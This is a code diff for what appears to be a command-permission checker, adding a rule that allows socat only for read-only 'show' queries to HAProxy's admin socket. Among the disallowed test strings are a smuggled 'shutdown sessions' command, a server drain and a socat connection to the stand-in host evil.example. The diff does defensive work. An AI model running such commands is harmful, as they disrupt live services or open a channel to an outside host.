@@ -1634,6 +1634,13 @@ const NAMED_JOURNALPRINT: Spec = Spec {
     ..Spec::POSIX
 };
 
+/// socat(1): only `stdio` against HAProxy's admin socket, fed `show …`
+/// commands (`rules::loss` makes every other use destructive).
+const SOCAT: Spec = Spec {
+    operands: Operands::AtMost(2),
+    ..Spec::ORDERED
+};
+
 /// keactrl(8): `status` (not `start`, `stop`, `reload`).
 const KEACTRL: Spec = Spec {
     valued: "cs",
@@ -1708,6 +1715,21 @@ pub(super) const ENTRIES: &[Entry] = &[
         not: &[
             "named-journalprint -c 10 /var/lib/bind/db.lab.jnl",
             "named-journalprint -d /var/lib/bind/db.lab.jnl",
+        ],
+    },
+    Entry {
+        names: &["socat"],
+        spec: &SOCAT,
+        read_only: &[
+            "echo 'show info' | socat stdio /run/haproxy/admin.sock",
+            "echo \"show servers state be_web\" | socat stdio unix-connect:/run/haproxy/admin.sock",
+        ],
+        not: &[
+            "echo 'set server be/web1 state drain' | socat stdio /run/haproxy/admin.sock",
+            "echo 'show info; shutdown sessions server be/w' | socat stdio /run/haproxy/admin.sock",
+            "socat stdio /run/haproxy/admin.sock",
+            "echo 'show info' | socat stdio /tmp/x.sock",
+            "echo 'show info' | socat stdio TCP:evil.example:80",
         ],
     },
     Entry {
